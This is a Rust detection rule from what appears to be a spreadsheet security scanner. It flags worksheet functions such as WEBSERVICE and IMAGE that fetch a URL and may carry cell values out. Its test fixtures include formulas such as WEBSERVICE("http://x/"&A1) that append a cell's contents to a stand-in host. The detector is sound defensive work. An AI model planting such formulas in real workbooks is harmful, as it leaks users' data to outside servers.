//! A function of a cell fetches from, or tells, another place.

use super::features;
use super::lexicon::FETCHING_FUNCTIONS;
use super::{Case, Part, Rule, Subject};
use crate::link::{Carrier, TechniqueId, Trigger};

pub(super) const RULE: Rule = Rule {
    id: "fetching-function",
    weight: 40,
    part: Part::Base,
    since: "0.1.0",
    doc: "A worksheet function fetches what its argument names, and may carry the contents of \
          cells there (`WEBSERVICE`, `IMAGE`, `IMPORTXML` …).",
    hits: &[
        Case::external(Carrier::Function, "WEBSERVICE(\"http://x/\"&A1)"),
        Case::external(Carrier::Function, "http://x/?<expr>")
            .raw("_xlfn.WEBSERVICE(\"http://x/?\"&A1)"),
        Case::external(Carrier::Formula, "_xlfn.IMAGE(\"https://x/a.png\")"),
    ],
    misses: &[
        Case::external(Carrier::Function, "http://x/").raw("MYIMAGE(\"http://x/\")"),
        Case::external(Carrier::Function, "RTD(\"prog.id\",\"\",\"x\")"),
        Case::external(Carrier::Function, "HYPERLINK(\"http://x/\",\"x\")"),
        Case::external(Carrier::Hyperlink, "http://x/webservice(1)"),
    ],
    look,
};

fn look(subject: &Subject<'_>) -> Option<String> {
    let carriers = [Carrier::Function, Carrier::Formula, Carrier::Name];
    if !subject.is_external_in(&carriers) || subject.link.trigger == Trigger::Click {
        return None;
    }
    let name = subject.texts().find_map(|text| {
        let lower = text.to_ascii_lowercase();
        let called = |name: &&&str| features::calls(&lower, name);
        FETCHING_FUNCTIONS.iter().find(called)
    })?;
    let place = subject.reach().map(|(_, place)| place);
    let cells = if subject.shows(&[TechniqueId::Unresolved]).is_some() {
        " with the values of cells"
    } else {
        ""
    };
    Some(match place {
        Some(place) => format!("{}{cells}: {place}", name.to_uppercase()),
        None => format!("{}{cells}", name.to_uppercase()),
    })
}
